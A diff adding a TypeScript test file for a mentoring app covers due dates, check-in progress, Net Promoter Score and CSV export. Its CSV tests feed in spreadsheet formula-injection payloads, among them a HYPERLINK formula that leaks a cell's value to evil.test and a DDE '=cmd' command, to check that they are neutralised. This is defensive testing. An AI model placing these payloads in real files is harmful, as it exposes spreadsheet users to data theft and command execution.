@@ -1,0 +1,240 @@
+/**
+ * The pure side of check-ins: where a pair is in its program (due dates, who has checked in, the current step,
+ * percent done), the Net Promoter Score of the feedback, and the CSV export that must not turn a name into a
+ * spreadsheet formula.
+ */
+import { describe, expect, it } from "vitest";
+import { DAY_MS, WEEK_MS, dueAt, netPromoterScore, progressOf, STALLED_AFTER_DAYS } from "@/lib/pairings/progress";
+import { csvCell, pairsCsv } from "@/lib/pairings/pairs-csv";
+import type { DashboardPairDto } from "@/lib/pairings/dashboard-dto";
+
+const start = new Date("2027-03-01T10:00:00.000Z");
+const pairing = { mentorId: "mentor", menteeId: "mentee", startedAt: start };
+// Given out of order on purpose: progress follows `position`.
+const steps = [
+  { id: "s3", position: 2, dueWeek: 4, title: "Look back" },
+  { id: "s1", position: 0, dueWeek: 1, title: "Meet" },
+  { id: "s2", position: 1, dueWeek: 2, title: "Set a goal" },
+];
+const both = (stepId: string) => [
+  { stepId, userId: "mentor" },
+  { stepId, userId: "mentee" },
+];
+
+describe("dueAt", () => {
+  it.each([
+    [1, "2027-03-08T10:00:00.000Z"],
+    [2, "2027-03-15T10:00:00.000Z"],
+    // Across the European DST change (28 March): whole weeks of 7 × 24 hours, no hour lost.
+    [5, "2027-04-05T10:00:00.000Z"],
+  ])("week %i ends on %s", (week, iso) => {
+    expect(dueAt(start, week).toISOString()).toBe(iso);
+  });
+
+  it("counts whole weeks from the start", () => {
+    expect(WEEK_MS).toBe(7 * DAY_MS);
+    expect(STALLED_AFTER_DAYS).toBe(14);
+  });
+});
+
+describe("progressOf", () => {
+  it("a new pair: nothing done, the first step current, due dates from the start and each step's week", () => {
+    const p = progressOf(steps, [], pairing);
+    expect(p.steps.map((s) => s.id)).toEqual(["s1", "s2", "s3"]);
+    expect(p.steps.map((s) => s.dueAt.toISOString())).toEqual([
+      "2027-03-08T10:00:00.000Z",
+      "2027-03-15T10:00:00.000Z",
+      "2027-03-29T10:00:00.000Z",
+    ]);
+    expect(p.steps[0]).toMatchObject({ title: "Meet", checkedIn: { mentor: false, mentee: false }, complete: false });
+    expect(p).toMatchObject({ currentStepId: "s1", done: 0, total: 3, percent: 0, allComplete: false });
+  });
+
+  it("a step is complete only when both have checked in", () => {
+    const p = progressOf(steps, [{ stepId: "s1", userId: "mentee" }], pairing);
+    expect(p.steps[0]).toMatchObject({ checkedIn: { mentor: false, mentee: true }, complete: false });
+    expect(p).toMatchObject({ currentStepId: "s1", done: 0 });
+
+    const q = progressOf(steps, both("s1"), pairing);
+    expect(q.steps[0]).toMatchObject({ checkedIn: { mentor: true, mentee: true }, complete: true });
+    expect(q).toMatchObject({ currentStepId: "s2", done: 1, percent: 33, allComplete: false });
+  });
+
+  it("the current step is the first incomplete one, even when a later one is done", () => {
+    const p = progressOf(steps, [...both("s1"), ...both("s3")], pairing);
+    expect(p).toMatchObject({ currentStepId: "s2", done: 2, percent: 67, allComplete: false });
+  });
+
+  it("every step done: no current step, 100%, all complete", () => {
+    const p = progressOf(steps, [...both("s1"), ...both("s2"), ...both("s3")], pairing);
+    expect(p).toMatchObject({ currentStepId: null, done: 3, total: 3, percent: 100, allComplete: true });
+  });
+
+  it("ignores someone else's check-in, duplicates, and check-ins on steps no longer in the program", () => {
+    const p = progressOf(
+      steps,
+      [
+        { stepId: "s1", userId: "mentee" },
+        { stepId: "s1", userId: "mentee" },
+        { stepId: "s1", userId: "an admin" },
+        ...both("removed-step"),
+      ],
+      pairing,
+    );
+    expect(p.steps[0]!.complete).toBe(false);
+    expect(p).toMatchObject({ done: 0, total: 3, percent: 0 });
+    expect(p.steps).toHaveLength(3);
+  });
+
+  it("a program without steps is not complete (nothing to finish), 0%", () => {
+    expect(progressOf([], [], pairing)).toEqual({
+      steps: [],
+      currentStepId: null,
+      done: 0,
+      total: 0,
+      percent: 0,
+      allComplete: false,
+    });
+  });
+});
+
+describe("netPromoterScore", () => {
+  it.each([
+    [[], null],
+    [[10, 9], 100],
+    [[0, 6], -100],
+    [[7, 8], 0],
+    // 9 is a promoter, 6 a detractor, 7–8 passives.
+    [[9, 6, 7, 8], 0],
+    [[10, 10, 7, 3], 25],
+    [[10, 9, 5], 33],
+    [[10, 2, 2], -33],
+  ])("%j → %s", (answers, nps) => {
+    expect(netPromoterScore(answers)).toBe(nps);
+  });
+});
+
+describe("csvCell", () => {
+  it.each([
+    [null, ""],
+    ["Ana", "Ana"],
+    [3, "3"],
+    [-3, "-3"],
+    [4.5, "4.5"],
+    [true, "true"],
+    ["Silva, Ana", '"Silva, Ana"'],
+    ['Ana "the soaper"', '"Ana ""the soaper"""'],
+    ["two\nlines", '"two\nlines"'],
+  ])("%j → %j", (value, cell) => {
+    expect(csvCell(value)).toBe(cell);
+  });
+
+  // A cell a spreadsheet would run as a formula starts with = + - @ (or a tab or carriage return).
+  it.each([
+    ["=1+1", "'=1+1"],
+    ["+1+1", "'+1+1"],
+    ["-1+1", "'-1+1"],
+    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
+    ["\t=1+1", "'\t=1+1"],
+    ["\r=1+1", `"'\r=1+1"`],
+    ['=HYPERLINK("http://evil.test","x")', `"'=HYPERLINK(""http://evil.test"",""x"")"`],
+    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+  ])("neutralizes %j as %j", (value, cell) => {
+    expect(csvCell(value)).toBe(cell);
+  });
+});
+
+/** A small RFC 4180 reader, to check what a spreadsheet would see. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ",") {
+      row.push(cell);
+      cell = "";
+    } else if (c === "\r" && text[i + 1] === "\n") {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = "";
+      i++;
+    } else cell += c;
+  }
+  if (cell || row.length) {
+    row.push(cell);
+    rows.push(row);
+  }
+  return rows;
+}
+
+const pair = (over: Partial<DashboardPairDto>): DashboardPairDto => ({
+  id: "p1",
+  state: "ACTIVE",
+  mentor: "Diego Mentor",
+  mentee: "Sam Mentee",
+  startedAt: "2027-03-01T10:00:00.000Z",
+  currentStep: "Set a goal",
+  percent: 33,
+  done: 1,
+  total: 3,
+  lastActivityAt: "2027-03-09T18:30:00.000Z",
+  averageRating: 4.5,
+  stalled: false,
+  lastNudgedAt: null,
+  ...over,
+});
+
+describe("pairsCsv", () => {
+  it("one header and one row per pair, dates as days, CRLF lines", () => {
+    const csv = pairsCsv([
+      pair({}),
+      pair({ id: "p2", state: "COMPLETED", currentStep: null, averageRating: null, stalled: true }),
+    ]);
+    expect(csv.endsWith("\r\n")).toBe(true);
+    expect(parseCsv(csv)).toEqual([
+      [
+        "Mentor",
+        "Mentee",
+        "State",
+        "Started",
+        "Current step",
+        "Steps done",
+        "Steps",
+        "Complete (%)",
+        "Last activity",
+        "Average rating",
+        "Stalled",
+      ],
+      ["Diego Mentor", "Sam Mentee", "ACTIVE", "2027-03-01", "Set a goal", "1", "3", "33", "2027-03-09", "4.5", "no"],
+      ["Diego Mentor", "Sam Mentee", "COMPLETED", "2027-03-01", "", "1", "3", "33", "2027-03-09", "", "yes"],
+    ]);
+  });
+
+  it("no pairs: the header alone", () => {
+    expect(parseCsv(pairsCsv([]))).toHaveLength(1);
+  });
+
+  it("a hostile name stays one cell and never starts with a formula character", () => {
+    const names = ['=HYPERLINK("http://evil.test?"&A1,"Click")', "+SUM(1,2)", "-2+3", "@cmd", 'Line\r\nbreak, "x"'];
+    const csv = pairsCsv(names.map((n, i) => pair({ id: `p${i}`, mentor: n, mentee: n, currentStep: n })));
+    const rows = parseCsv(csv).slice(1);
+    expect(rows).toHaveLength(names.length);
+    rows.forEach((row, i) => {
+      expect(row).toHaveLength(11);
+      for (const cell of [row[0], row[1], row[4]]) {
+        expect(cell).toBe(/^[=+\-@]/.test(names[i]!) ? `'${names[i]}` : names[i]);
+        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      }
+    });
+  });
+});
